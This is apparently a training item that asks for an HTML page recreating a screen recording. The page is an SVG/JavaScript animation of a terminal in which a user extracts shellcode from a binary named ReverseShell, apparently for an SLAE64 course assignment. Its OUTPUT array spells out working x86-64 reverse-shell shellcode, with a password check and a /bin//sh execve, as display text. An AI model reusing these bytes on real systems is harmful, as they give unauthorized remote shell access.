
Recreate the animation shown at these times as an HTML page. Size 800 px wide and 453 px high, loop 8 s.

```html
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Terminal session</title>
<style>
  html, body { margin: 0; height: 100%; overflow: hidden; background: #000; }
  svg { display: block; width: 100vw; height: 100vh; }
  text { font-family: "Open Sans", sans-serif; text-rendering: geometricPrecision; white-space: pre; }
  #term text { font: 9.896px "DejaVu Sans Mono", monospace; fill: #aaa; }
  #term .user { fill: #ef2929; font-weight: bold; }
  #term .path { fill: #729fcf; font-weight: bold; }
  #term .inv { fill: #000; }
  .block { fill: #aaa; }
  .hollow { fill: none; stroke: #aaa; stroke-width: .8; }
  #bar rect { fill: #ab0000; }
  #bar text { fill: #f2dcdc; font-size: 5.83px; }
  #bar path { fill: none; stroke: #eee; stroke-width: .6; }
  #bar .pane { fill: #200; }
  .unfocused #bar rect { fill: #cdcbc9; }
  .unfocused #bar text { fill: #222; }
  .unfocused #bar path { stroke: #222; }
  .unfocused #term { opacity: .8; }
  #menu text { font-size: 5.96px; fill: #2e3436; }
  #menu .off { fill: #a0a2a2; }
  #menu .hot { fill: #fff; }
  #panel text { font-size: 6.1px; fill: #bbb; }
</style>
</head>
<body>
<svg id="stage" viewBox="0 0 800 453" preserveAspectRatio="none">
  <defs>
    <linearGradient id="chrome" x2="0" y2="1">
      <stop stop-color="#e9e8e6"/><stop offset="1" stop-color="#d3d1ce"/>
    </linearGradient>
  </defs>
  <rect width="800" height="453"/>

  <g id="panel">
    <text x="-9" y="1.4">Applications</text>
    <text x="40" y="1.4">Places</text>
    <rect x="76" y="0" width="4.5" height="2.4" fill="#b01018"/>
    <text x="83" y="1.4">Terminator</text>
    <text id="clock" x="385" y="1.4"></text>
    <text x="684" y="1.4" style="fill:#d01018">00:00:02</text>
    <rect x="713" width="7" height="2.4" fill="#c00c14"/>
    <rect x="731.5" y="-3" width="10" height="6" fill="#ddd"/>
    <path d="M754 2l4-3M767 0v2m3-2v2M780 .6h5" stroke="#bbb" fill="none"/>
  </g>

  <path d="M5 18V8q0-3 3-3H797q3 0 3 3V18z" fill="url(#chrome)"/>
  <text x="402.5" y="13.5" font-size="6.5" text-anchor="middle" fill="#2b2b2b">user@hill: ~/SLAE64/A2</text>
  <g fill="#3a3d3e">
    <circle cx="765.6" cy="11.5" r="3.3"/><circle cx="779.2" cy="11.5" r="3.3"/><circle cx="792.7" cy="11.5" r="3.3"/>
  </g>
  <path d="M764 11.5h3.2M778 10.3h2.4v2.4h-2.4zM791.5 10.3l2.4 2.4m0-2.4l-2.4 2.4" fill="none" stroke="#e6e6e6" stroke-width=".7"/>

  <g id="bar">
    <rect x="5" y="18" width="795" height="9"/>
    <path class="pane" d="M7 20.4h4.6v4.6h-4.6zM9.3 20.4v4.6M7 22.7h4.6"/>
    <text x="408" y="24.6" text-anchor="middle">user@hill: ~/SLAE64/A2 132x34</text>
  </g>

  <g id="term"></g>

  <rect x="794" y="27" width="6" height="426" fill="#f0efee"/>
  <rect x="794" y="396" width="6" height="51" fill="#7d7d7d"/>
  <path d="M795.6 31l1.5-2 1.5 2z" fill="#555"/>
  <rect x="5" y="448.4" width="789" height="4.6" fill="#0c0304"/>

  <g id="dock">
    <path d="M0 106.5h2q2.5 0 2.5 2.5V349q0 2.5-2.5 2.5h-2" fill="#050505" stroke="#242424" stroke-width=".8"/>
    <rect y="112" width="1" height="9" fill="#b02525"/>
    <rect y="154" width="1" height="9" fill="#555"/>
    <rect y="192" width="1" height="13" fill="#1d5c9c"/>
    <rect y="212" width="1" height="13" fill="#bbb"/>
    <rect y="237" width="1" height="4" fill="#555"/>
    <rect y="258" width="1" height="7" fill="#555"/>
    <rect id="active" y="291" width="4" height="19"/>
    <rect y="295" width="1.5" height="10" fill="#7c3028"/>
    <rect y="317" width="1" height="9" fill="#6c7020"/>
  </g>

  <g id="notice">
    <rect x="296.5" y="7" width="212" height="27" rx="1.5" fill="#262626" fill-opacity=".88"/>
    <circle cx="310" cy="20" r="8" fill="#d3070f"/>
    <text x="323.5" y="16.7" font-size="5.8" font-weight="600" fill="#eee">EasyScreenCast -&gt; Recording in progress / Seconds pass...</text>
  </g>

  <g id="menu"></g>
</svg>
<script>
const $ = id => document.getElementById(id);
const LOOP = 8000, TICK = 200;
const COLS = 132, CELL_W = 5.958, CELL_H = 12.35, LEFT = 5.5, TOP = 27.2;

const PROMPT = '<tspan class="user">user@hill</tspan>:<tspan class="path">~/SLAE64/A2</tspan># ';
const PROMPT_LEN = 23;
const COMMAND = String.raw`for i in $(objdump -d ReverseShell -M intel |grep "^ " |cut -f2); do echo -n '\x'$i; done;echo`;
const OUTPUT = [
  String.raw`\x31\xf6\xf7\xe6\xff\xc6\x6a\x0a\x5f\x04\x29\x0f\x05\x48\x93\x52\x48\xb9\xff\xff\xff\xff\xff\xff\xff\xfe\x48\xf7\xd1\x51\x52\x52\x66`,
  String.raw`\x68\x05\x39\x66\x6a\x0a\x53\x5f\x54\x5e\x6a\x1c\x5a\x6a\x2a\x58\x0f\x05\x48\x96\x6a\x03\x5e\x6a\x21\x58\xff\xce\x0f\x05\xe0\xf7\x48`,
  String.raw`\x31\xc0\x50\x5f\x50\x54\x5e\x6a\x04\x5a\x0f\x05\x68\x70\x77\x6e\x64\x5b\x39\x1e\x75\x1a\x48\x31\xc0\x50\x48\xbb\x2f\x62\x69\x6e\x2f`,
  String.raw`\x2f\x73\x68\x53\x54\x5f\x50\x54\x5e\x99\x6a\x3b\x58\x0f\x05\x90`
];

// Timed steps: [start in ms, value]
const SEARCH = [[0, null], [1000, ''], [1200, 'f'], [1400, 'fo'], [1600, 'for'], [2000, null]];
const TYPED = [[0, ''], [7000, 'v'], [7200, 'vi'], [7400, 'vim']];
const SELECTED = [[0, 0], [4000, 30], [4200, 190], [4400, 326], [4600, 374], [4800, 450], [5000, 460]];
const NOTICE = [[0, 1], [200, .5], [400, 0]];
const at = (steps, t) => steps.filter(([start]) => start <= t).pop()[1];

const cells = (row, col, count, cls = 'block') => {
  const inset = cls === 'hollow' ? .5 : 0;
  return `<rect class="${cls}" x="${LEFT + col * CELL_W + inset}" y="${TOP + row * CELL_H + inset}"
    width="${count * CELL_W - 2 * inset}" height="${CELL_H - 2 * inset}"/>`;
};
const line = (row, content) => `<text x="${LEFT}" y="${TOP + row * CELL_H + 9.5}">${content}</text>`;
const invert = (s, from, to) => s.slice(0, from) + `<tspan class="inv">${s.slice(from, to)}</tspan>` + s.slice(to);

function searchView(query) {
  const prefix = `(reverse-i-search)\`${query}': `;
  const hit = query ? COMMAND.lastIndexOf(query) : 0;
  const col = prefix.length + hit;
  const content = prefix + (query ? COMMAND : '');
  return cells(0, col, 1) + line(0, invert(content, col, col + 1));
}

function outputView(t, cursor) {
  const selected = at(SELECTED, t), typed = at(TYPED, t);
  const rows = OUTPUT.map((s, i) => {
    const count = Math.max(0, Math.min(s.length, selected - i * COLS));
    return (count ? cells(i + 1, 0, count) : '') + line(i + 1, invert(s, 0, count));
  });
  return line(0, PROMPT + COMMAND) + rows.join('') + line(5, PROMPT + typed) +
    (cursor ? cells(5, PROMPT_LEN + typed.length, 1, cursor) : '');
}

function cursorAt(t, menuOpen) {
  if (menuOpen) return 'hollow';
  if (t < 2000) return t < 200 || t >= 800 ? 'block' : '';
  return t >= 6400 || Math.floor((t - 2000) / 600) % 2 === 0 ? 'block' : '';
}

function menuView(hover) {
  const items = ['Copy', 'Paste', 'Split Horizontally', 'Split Vertically', 'Open Tab', 'Close',
    'Zoom terminal', 'Maximize terminal', 'Show scrollbar', 'Preferences', 'Encodings'];
  const labels = items.map((s, i) => {
    const cls = /terminal/.test(s) ? 'off' : hover && i === 0 ? 'hot' : '';
    return `<text class="${cls}" x="399.3" y="${92.2 + i * 12.1}">${s}</text>`;
  });
  const rules = [108.4, 144.5, 156.6, 181].map(y => `M388 ${y}h72`).join('');
  return `<rect x="387.2" y="83.2" width="73.6" height="134.6" fill="#f4f4f3" stroke="#b9b9b7" stroke-width=".6"/>
    ${hover ? '<rect x="387.5" y="84.5" width="73" height="11.7" fill="#1b8fc4"/>' : ''}
    <path d="${rules}" stroke="#dcdcda" stroke-width=".6"/>
    <path d="M390 111.5h6.5v2.7h-6.5zM390 115h6.5v2.7h-6.5zM390 123.4h2.8v6.4h-2.8zM393.7 123.4h2.8v6.4h-2.8zM453.6 209l2.8 2.2-2.8 2.2z" fill="#111"/>
    <rect x="390.4" y="184.6" width="5.6" height="5.6" rx=".6" fill="#fff" stroke="#777" stroke-width=".6"/>
    <path d="M391.7 187.4l1.2 1.3 2-2.7" fill="none" stroke="#555" stroke-width=".7"/>` + labels.join('');
}

function render(t) {
  const menuOpen = t >= 5600 && t < 6400;
  const cursor = cursorAt(t, menuOpen);
  const query = at(SEARCH, t);
  $('term').innerHTML = t >= 2000 ? outputView(t, cursor)
    : query !== null ? searchView(query)
    : line(0, PROMPT) + (cursor ? cells(0, PROMPT_LEN, 1) : '');
  $('menu').innerHTML = menuOpen ? menuView(t >= 5800) : '';
  $('stage').classList.toggle('unfocused', menuOpen);
  $('notice').setAttribute('opacity', at(NOTICE, t));
  $('active').setAttribute('fill', t < 3600 ? '#484848' : '#333');
  $('clock').textContent = 'Tue 3:22:' + (44 + Math.floor(t / 1000));
}

let shown = -1;
function frame() {
  const t = Math.floor(performance.now() % LOOP / TICK) * TICK;
  if (t !== shown) render(shown = t);
  requestAnimationFrame(frame);
}
frame();
</script>
</body>
</html>
```
